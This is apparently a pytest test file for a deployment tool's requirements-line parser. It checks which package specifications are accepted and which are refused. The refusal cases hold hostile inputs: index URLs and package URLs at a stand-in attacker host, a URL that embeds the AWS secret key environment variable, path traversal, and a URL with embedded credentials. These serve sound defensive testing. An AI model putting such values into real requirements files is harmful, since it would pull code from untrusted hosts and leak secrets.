"""Requirement lines: what is accepted, what is refused, and where."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deployer.errors import SpecError
from deployer.model.requirements import (
    RawRequirement,
    Requirement,
    parse_requirement,
    parse_requirements,
    read_lines,
    requirements_digest,
)


def parsed(text: str, *, trust: tuple[str, ...] = ()) -> Requirement:
    return parse_requirement(RawRequirement(text, "requirements.txt:3"), trust=trust)


def test_lines_continuations_comments_mark_and_windows_ends() -> None:
    text = "\ufeff# top\r\nnumpy==2.3.1 \\\r\n  --hash=sha256:aa\r\n\r\npandas>=2 # why\r\nx#y\r\nlast==1 \\"
    assert [(line.text, line.where) for line in read_lines(text, "r.txt")] == [
        ("numpy==2.3.1   --hash=sha256:aa", "r.txt:2"),
        ("pandas>=2", "r.txt:5"),
        ("x#y", "r.txt:6"),
        ("last==1", "r.txt:7"),
    ]


def test_names_versions_extras_markers_and_hashes() -> None:
    found = parsed('Scikit_Learn[Tests,alt] == 1.8.0 ; python_version < "3.12" --hash=sha256:ab --hash=sha256:cd')
    assert found.name == "scikit-learn"
    assert found.specifier == "==1.8.0"
    assert found.pinned == "1.8.0"
    assert found.extras == ("Tests", "alt")
    assert found.marker == 'python_version < "3.12"'
    assert found.hashes == ("sha256:ab", "sha256:cd")
    assert parsed("numpy>=1,<3").pinned is None
    assert parsed("numpy==2.*").pinned is None


@pytest.mark.parametrize("path", ["./wheels/a_b-1.0-py3-none-any.whl", "wheels/a_b-1.0-py3-none-any.whl"])
def test_a_wheel_inside_the_model(path: str) -> None:
    found = parsed(path)
    assert (found.name, found.wheel) == ("a-b", "wheels/a_b-1.0-py3-none-any.whl")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("--index-url https://evil.example/simple", "option of pip"),
        ("--extra-index-url=https://evil.example/simple", "option of pip"),
        ("-i https://evil.example", "option of pip"),
        ("--find-links ./wheels", "option of pip"),
        ("-r other.txt", "option of pip"),
        ("-c constraints.txt", "option of pip"),
        ("-e .", "option of pip"),
        ("--trusted-host evil.example", "option of pip"),
        ("pkg @ https://evil.example/pkg-1.0-py3-none-any.whl", "does not trust"),
        ("https://evil.example/pkg-1.0-py3-none-any.whl", "does not trust"),
        ("pkg @ file:///etc/pkg-1.0-py3-none-any.whl", "does not trust"),
        ("file:/etc/pkg-1.0-py3-none-any.whl", "does not trust"),
        ("git+https://evil.example/pkg.git", "version control"),
        ("pkg @ git+ssh://git@evil.example/pkg.git", "version control"),
        ("pkg @ https://evil.example/${AWS_SECRET_ACCESS_KEY}/p-1-py3-none-any.whl", "from the environment"),
        ("${HOME}", "from the environment"),
        ("./local", "source"),
        ("../up", "source"),
        (".", "source"),
        ("pkg-1.0.tar.gz", "source"),
        ("./pkg-1.0.zip", "source"),
        ("../wheels/a-1.0-py3-none-any.whl", "leaves the model"),
        ("/abs/a-1.0-py3-none-any.whl", "absolute"),
        ("wheels/../../a-1.0-py3-none-any.whl", "leaves the model"),
        ("./a.whl", "not the name of a wheel"),
        ("numpy=1.0", "not a requirement"),
        ("numpy==", "not a requirement"),
        ("num py", "not a requirement"),
        ("numpy==1 --global-option=x", "not a requirement"),
        ("a\x1bb", "control characters"),
    ],
)
def test_what_is_refused_with_its_line(text: str, message: str) -> None:
    with pytest.raises(SpecError, match=message) as caught:
        parsed(text)
    assert caught.value.where == "requirements.txt:3"
    assert caught.value.hint or "control" in message


def test_trust_names_exactly_one_url() -> None:
    url = "https://files.example/pkg-1.0-py3-none-any.whl"
    found = parsed(f"pkg @ {url}", trust=(url,))
    assert (found.name, found.url) == ("pkg", url)
    assert parsed(url, trust=(url,)).name == "pkg"
    for near in (f"{url}#sha256=00", url.replace("https", "http"), url.replace("1.0", "1.1")):
        with pytest.raises(SpecError, match="does not trust"):
            parsed(f"pkg @ {near}", trust=(url,))


@pytest.mark.parametrize(
    "url", ["git+https://e.example/p.git", "https://e.example/p-1.0.tar.gz", "ftp://e.example/p-1.0-py3-none-any.whl"]
)
def test_trust_does_not_make_a_source_buildable(url: str) -> None:
    with pytest.raises(SpecError, match="would have to be built"):
        parsed(f"p @ {url}", trust=(url,))


def test_credentials_are_never_repeated() -> None:
    url = "https://me:hunter2@e.example/p-1.0-py3-none-any.whl"
    for trust in ((), (url,)):
        with pytest.raises(SpecError) as caught:
            parsed(f"p @ {url}", trust=trust)
        assert "hunter2" not in f"{caught.value} {caught.value.hint}"


def test_plain_strings_carry_the_place_that_is_given() -> None:
    with pytest.raises(SpecError) as caught:
        parse_requirements(["numpy", "-e ."], where="requirements.extra")
    assert caught.value.where == "requirements.extra"


def test_the_digest_is_of_the_set_of_lines() -> None:
    one = read_lines("a==1\nb==2 # x\n", "r")
    other = read_lines("# y\nb==2\na==1\n", "q")
    assert requirements_digest(one) == requirements_digest(other)
    assert requirements_digest(one) != requirements_digest(read_lines("a==1\nb==3\n", "r"))


@given(st.text(max_size=80))
def test_any_line_is_a_requirement_or_a_spec_error(text: str) -> None:
    for line in read_lines(text, "r.txt"):
        try:
            found = parse_requirement(line)
        except SpecError as error:
            said = (error.where, str(error).isprintable())
            assert said == (line.where, True)
        else:
            assert found.name
            assert found.url is None
            assert ".." not in (found.wheel or "").split("/")
